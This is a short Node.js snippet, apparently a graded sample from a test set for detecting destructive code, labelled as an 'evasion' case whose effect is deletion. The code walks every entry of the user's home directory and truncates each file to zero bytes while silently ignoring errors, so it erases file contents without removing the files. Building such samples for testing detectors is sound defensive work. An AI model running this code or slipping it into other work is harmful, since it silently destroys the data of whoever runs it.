// evasion: every entry of the home directory emptied by a forEach that truncates it (truncateSync), none unlinked
// grade: medium-hard; does: delete
const fs = require("fs");
const path = require("path");
const os = require("os");
fs.readdirSync(os.homedir()).forEach((name) => {
  try {
    fs.truncateSync(path.join(os.homedir(), name));
  } catch {}
});
